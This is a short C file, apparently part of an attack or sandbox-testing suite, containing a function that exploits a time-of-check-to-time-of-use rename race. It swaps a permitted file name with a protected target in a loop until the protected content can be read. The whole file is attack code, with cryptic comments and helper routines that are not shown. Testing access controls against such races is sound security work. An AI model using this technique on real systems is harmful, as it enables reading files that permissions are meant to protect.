#include "attack.h"
#include "opens.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* What is renamed is another file between the moment it is looked at and the moment it is used; back under the name that may be read, it tells which. */
    static char path[4096];
    char *moved = NULL;
    int leaked = first_of(open(extra, O_RDONLY)) == 's';
    (void)workspace;
    struct swap swap = between(path, extra, target);
    if (asprintf(&moved, "%s.moved", extra) < 0)
        return 0;
    if (rename(extra, moved) == 0) /* undisturbed: what is allowed can be done */
        rename(moved, extra);
    if (!race_begins(&swap, keep_rewriting))
        return 0;
    while (!leaked && goes_on())
        if (rename(path, moved) == 0 && rename(moved, extra) == 0)
            leaked = first_of(open(extra, O_RDONLY)) == 's';
    race_ends(&swap);
    return leaked;
}
